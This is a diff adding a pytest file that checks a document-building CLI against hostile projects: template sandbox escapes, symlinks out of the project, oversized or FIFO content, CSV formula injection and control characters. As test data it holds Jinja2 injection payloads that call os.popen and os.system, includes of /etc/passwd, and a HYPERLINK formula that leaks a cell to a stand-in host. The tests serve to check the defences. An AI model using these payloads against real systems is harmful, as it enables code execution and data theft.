@@ -1,0 +1,321 @@
+"""Hostile projects and faults, on the CLI (issue 15): each case exits with a message naming the
+file (and line), prints no traceback, reads and writes nothing outside the project, runs
+nothing, and leaves the previous outputs byte for byte.
+
+The CLI runs in-process (`-j 1`) so spies see every `open` and every attempt to start a program;
+a canary file beside the project must never be opened.
+"""
+
+from __future__ import annotations
+
+import builtins
+import csv
+import io
+import os
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+import weasyprint  # noqa: F401  (imported before the spies: it looks up its libraries once)
+from badinput import GOOD, cli_run, files_in
+
+from briefing.source.load import MAX_SOURCE_BYTES
+
+from conftest import write_project
+
+PACK = """\
+title: A pack
+items:
+  - document: ../doc.yaml
+recipients: {recipients}
+"""
+
+
+class Watch:
+    """Every path opened by Python code, and every attempt to run a program."""
+
+    def __init__(self, monkeypatch: pytest.MonkeyPatch):
+        self.opened: list[str] = []
+        self.ran: list[object] = []
+        real_open, real_io_open, real_os_open = builtins.open, io.open, os.open
+
+        def record(file: object) -> None:
+            if isinstance(file, (str, bytes, os.PathLike)):
+                self.opened.append(os.path.realpath(os.fsdecode(file)))  # type: ignore[arg-type]
+
+        def spy(real):  # type: ignore[no-untyped-def]
+            def opener(file, *args, **kwargs):  # type: ignore[no-untyped-def]
+                record(file)
+                return real(file, *args, **kwargs)
+            return opener
+
+        def refuse(*args: object, **kwargs: object) -> None:
+            self.ran.append(args)
+            raise AssertionError(f"a program was started: {args!r}")
+
+        monkeypatch.setattr(builtins, "open", spy(real_open))
+        monkeypatch.setattr(io, "open", spy(real_io_open))
+        monkeypatch.setattr(os, "open", spy(real_os_open))
+        for name in ("system", "popen", "posix_spawn", "posix_spawnp", "execv", "execve",
+                     "fork"):
+            if hasattr(os, name):
+                monkeypatch.setattr(os, name, refuse)
+        monkeypatch.setattr(subprocess.Popen, "__init__", refuse)
+
+    def read(self, path: Path) -> bool:
+        return os.path.realpath(path) in self.opened
+
+
+@pytest.fixture
+def watch(monkeypatch: pytest.MonkeyPatch) -> Watch:
+    return Watch(monkeypatch)
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Iterator[Path]:
+    """A project with a good document, already built once (out/ holds the previous outputs),
+    and `outside/` beside it with a canary file."""
+    root = write_project(tmp_path / "project", {"content/doc.yaml": GOOD})
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "canary.txt").write_text("SECRET-CANARY\n", encoding="utf-8")
+    (outside / "canary.yaml").write_text(GOOD.replace("A small briefing", "SECRET-CANARY"),
+                                         encoding="utf-8")
+    yield root
+
+
+def outputs(root: Path) -> dict[str, bytes]:
+    out = root / "out"
+    return {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*"))
+            if p.is_file()} if out.exists() else {}
+
+
+def build_once(root: Path) -> dict[str, bytes]:
+    result = cli_run(root, "build", "-j", "1")
+    assert result.exit_code == 0, result.output
+    return outputs(root)
+
+
+def assert_refused(result: object, where: str, fragment: str) -> None:
+    """Exit 1, a `where: ...fragment...` line on stderr, no traceback."""
+    stderr = result.stderr  # type: ignore[attr-defined]
+    assert result.exit_code == 1, result.output  # type: ignore[attr-defined]
+    assert any(line.startswith(where) and fragment in line for line in stderr.splitlines()), \
+        stderr
+    assert "Traceback" not in stderr and "internal error" not in stderr, stderr
+
+
+# --- 1. templates are sandboxed ------------------------------------------------------------
+
+EXPLOITS = {
+    "globals": '{{ cycler.__init__.__globals__.os.popen("touch RAN").read() }}',
+    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "import": "{{ self._TemplateReference__context.cycler.__init__.__globals__ }}",
+    "lipsum": "{{ lipsum.__globals__['os'].system('touch RAN') }}",
+}
+
+
+@pytest.mark.parametrize("exploit", list(EXPLOITS))
+def test_a_project_template_cannot_run_code(project: Path, watch: Watch, exploit: str) -> None:
+    before = build_once(project)
+    (project / "templates").mkdir()
+    (project / "templates" / "cover.html.j2").write_text(
+        '{% extends "base.html.j2" %}\n{% block content %}\n' + EXPLOITS[exploit]
+        + "\n{% endblock %}\n", encoding="utf-8")
+    result = cli_run(project, "build", "-j", "1")
+    assert_refused(result, "templates/cover.html.j2:3: ", "not allowed in a template")
+    assert watch.ran == []
+    assert not (project / "RAN").exists()
+    assert outputs(project) == before
+
+
+def test_the_built_in_theme_runs_sandboxed_too() -> None:
+    import jinja2.sandbox
+
+    from briefing.render.theme import builtin_theme, theme_for
+
+    theme = theme_for(builtin_theme())
+    assert isinstance(theme.environment(), jinja2.sandbox.SandboxedEnvironment)
+
+
+def test_a_template_that_includes_itself_is_an_error(project: Path) -> None:
+    before = build_once(project)
+    (project / "templates").mkdir()
+    (project / "templates" / "cover.html.j2").write_text(
+        '{% extends "base.html.j2" %}\n{% block content %}\n{% include "cover.html.j2" %}\n'
+        "{% endblock %}\n", encoding="utf-8")
+    result = cli_run(project, "build", "-j", "1")
+    assert_refused(result, "templates/cover.html.j2:", "includes or extends itself")
+    assert outputs(project) == before
+
+
+@pytest.mark.parametrize("name", ["../../outside/canary.txt", "/etc/passwd", "missing.j2"])
+def test_a_template_including_outside_the_theme_is_an_error(
+        project: Path, watch: Watch, name: str) -> None:
+    before = build_once(project)
+    (project / "templates").mkdir()
+    (project / "templates" / "cover.html.j2").write_text(
+        '{% extends "base.html.j2" %}\n{% block content %}\n\n'
+        f'{{% include "{name}" %}}\n{{% endblock %}}\n', encoding="utf-8")
+    result = cli_run(project, "build", "-j", "1")
+    assert_refused(result, "templates/cover.html.j2:4: ", f"template `{name}` not found")
+    assert "cannot write the output" not in result.stderr
+    assert not watch.read(project.parent / "outside" / "canary.txt")
+    assert outputs(project) == before
+
+
+# --- 2. symlinks never lead out of the project -----------------------------------------------
+
+def test_a_stylesheet_linked_outside_is_refused(project: Path, watch: Watch) -> None:
+    before = build_once(project)
+    (project / "styles").mkdir()
+    (project / "styles" / "custom.css").symlink_to(project.parent / "outside" / "canary.txt")
+    result = cli_run(project, "build", "-j", "1")
+    assert_refused(result, "styles/custom.css: ", "a symbolic link to a file outside the project")
+    assert not watch.read(project.parent / "outside" / "canary.txt")
+    assert outputs(project) == before
+
+
+def test_a_template_linked_outside_is_refused(project: Path, watch: Watch) -> None:
+    before = build_once(project)
+    (project / "templates").mkdir()
+    (project.parent / "outside" / "cover.html.j2").write_text("<p>SECRET-CANARY</p>",
+                                                            encoding="utf-8")
+    (project / "templates" / "cover.html.j2").symlink_to(
+        project.parent / "outside" / "cover.html.j2")
+    watch.opened.clear()
+    result = cli_run(project, "build", "-j", "1")
+    assert_refused(result, "templates/cover.html.j2: ", "outside the project")
+    assert not watch.read(project.parent / "outside" / "cover.html.j2")
+    assert outputs(project) == before
+
+
+def test_a_templates_folder_linked_outside_is_refused(project: Path, watch: Watch) -> None:
+    outside = project.parent / "outside"
+    (outside / "cover.html.j2").write_text("<p>SECRET-CANARY</p>", encoding="utf-8")
+    (project / "templates").symlink_to(outside, target_is_directory=True)
+    watch.opened.clear()
+    result = cli_run(project, "build", "-j", "1")
+    assert_refused(result, "templates/cover.html.j2: ", "outside the project")
+    assert not watch.read(outside / "cover.html.j2")
+    assert files_in(project / "out") == []
+
+
+def test_links_inside_the_project_are_fine(project: Path) -> None:
+    """The control: a stylesheet linked to another file of the project is read."""
+    (project / "styles").mkdir()
+    (project / "content" / "extra.css").write_text("p { color: #123456; }", encoding="utf-8")
+    (project / "styles" / "custom.css").symlink_to(project / "content" / "extra.css")
+    result = cli_run(project, "build", "-j", "1")
+    assert result.exit_code == 0, result.output
+    assert "#123456" in (project / "out" / "doc.html").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("where", ["content/evil.yaml", "content/packs/evil.yaml"])
+def test_content_and_packs_linked_outside_are_refused(
+        project: Path, watch: Watch, where: str) -> None:
+    outside = project.parent / "outside"
+    if "packs" in where:
+        (outside / "canary.yaml").write_text(PACK.format(recipients="~"), encoding="utf-8")
+    (project / where).parent.mkdir(parents=True, exist_ok=True)
+    (project / where).symlink_to(outside / "canary.yaml")
+    watch.opened.clear()
+    for command in ("check", "build"):
+        result = cli_run(project, command, *(["-j", "1"] if command == "build" else []))
+        assert_refused(result, f"{where}: ", "a symbolic link to a file outside the project")
+    assert not watch.read(outside / "canary.yaml")
+    assert "evil" not in " ".join(files_in(project / "out"))
+
+
+# --- 5. content size checked before parsing --------------------------------------------------
+
+def test_a_huge_yaml_file_is_refused_before_it_is_parsed(
+        project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    huge = project / "content" / "huge.yaml"
+    with huge.open("wb") as handle:  # sparse: 100 MB on disk costs nothing
+        handle.truncate(100 * 1024 * 1024)
+    import briefing.source.load
+
+    def no_parsing(*args: object, **kwargs: object) -> None:
+        raise AssertionError("the file was parsed")
+
+    monkeypatch.setattr(briefing.source.load, "parse_with_warnings", no_parsing)
+    monkeypatch.setattr(briefing.source.load, "decode", no_parsing)
+    result = cli_run(project, "check", "content/huge.yaml")
+    assert_refused(result, "content/huge.yaml: ",
+                   f"larger than {MAX_SOURCE_BYTES // 1024 // 1024} MB")
+
+
+def test_a_fifo_as_content_never_blocks(project: Path) -> None:
+    """Discovery passes a FIFO by; read anyway (a race), it is refused without waiting."""
+    from briefing.errors import BriefingError
+    from briefing.source.load import load
+
+    os.mkfifo(project / "content" / "fifo.yaml")
+    assert cli_run(project, "check").exit_code == 0
+    with pytest.raises(BriefingError, match=r"content/fifo\.yaml: refused to read: not a regular"):
+        load(project / "content" / "fifo.yaml", "content/fifo.yaml", project=project)
+
+
+# --- 9. CSV injection --------------------------------------------------------------------
+
+def test_formula_leaders_are_neutralised_in_the_manifest(project: Path) -> None:
+    people = ('name,organisation,email\n'
+              '"=HYPERLINK(""http://127.0.0.1:9/leak?x=""&A1,""click"")",+Org,@me@example.org\n'
+              '-Minus,Plain,plain@example.org\n')
+    (project / "content" / "packs").mkdir()
+    (project / "content" / "packs" / "people.csv").write_text(people, encoding="utf-8")
+    (project / "content" / "packs" / "p.yaml").write_text(
+        PACK.format(recipients="people.csv"), encoding="utf-8")
+    result = cli_run(project, "build", "-j", "1", "content/packs/p.yaml")
+    assert result.exit_code == 0, result.output
+    manifest = next((project / "out").rglob("manifest.csv"))
+    rows = list(csv.reader(manifest.read_text(encoding="utf-8").splitlines()))
+    assert rows[1][:3] == ["'=HYPERLINK(\"http://127.0.0.1:9/leak?x=\"&A1,\"click\")",
+                           "'+Org", "'@me@example.org"]
+    assert rows[2][:3] == ["'-Minus", "Plain", "plain@example.org"]
+    for row in rows[1:]:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+
+
+@pytest.mark.parametrize("char", ["\x00", "\x1b", "\u202e", "\x07"])
+def test_control_characters_in_recipients_are_refused_at_their_line(
+        project: Path, char: str) -> None:
+    people = f"name,email\nGood,good@example.org\nBad{char}Name,bad@example.org\n"
+    (project / "content" / "packs").mkdir()
+    (project / "content" / "packs" / "people.csv").write_text(people, encoding="utf-8")
+    (project / "content" / "packs" / "p.yaml").write_text(
+        PACK.format(recipients="people.csv"), encoding="utf-8")
+    for command in ("check", "build"):
+        args = ["-j", "1"] if command == "build" else []
+        result = cli_run(project, command, *args, "content/packs/p.yaml")
+        assert_refused(result, "content/packs/people.csv:3: ", "control character")
+        assert char not in result.stderr
+    assert not (project / "out" / "packs").exists()
+
+
+def test_a_csv_field_over_the_csv_limit_is_an_error(project: Path) -> None:
+    people = "name,email\n" + "x" * 200_000 + ",a@example.org\n"
+    (project / "content" / "packs").mkdir()
+    (project / "content" / "packs" / "people.csv").write_text(people, encoding="utf-8")
+    (project / "content" / "packs" / "p.yaml").write_text(
+        PACK.format(recipients="people.csv"), encoding="utf-8")
+    for command in ("check", "build"):
+        args = ["-j", "1"] if command == "build" else []
+        result = cli_run(project, command, *args, "content/packs/p.yaml")
+        assert_refused(result, "content/packs/people.csv:", "not a readable CSV file")
+
+
+# --- 10. packs clash wherever they are -------------------------------------------------------
+
+def test_two_packs_named_alike_clash(project: Path) -> None:
+    (project / "content" / "packs").mkdir()
+    (project / "content" / "x.yaml").write_text(
+        PACK.format(recipients="~").replace("../doc.yaml", "doc.yaml"), encoding="utf-8")
+    (project / "content" / "packs" / "x.yaml").write_text(PACK.format(recipients="~"),
+                                                         encoding="utf-8")
+    result = cli_run(project, "build", "-j", "1", "content/x.yaml", "content/packs/x.yaml")
+    assert_refused(result, "content/packs/x.yaml: ", "output name `x` is already used by "
+                   "content/x.yaml")
+    assert result.stdout.count("packs/x.pdf") == 1, result.stdout
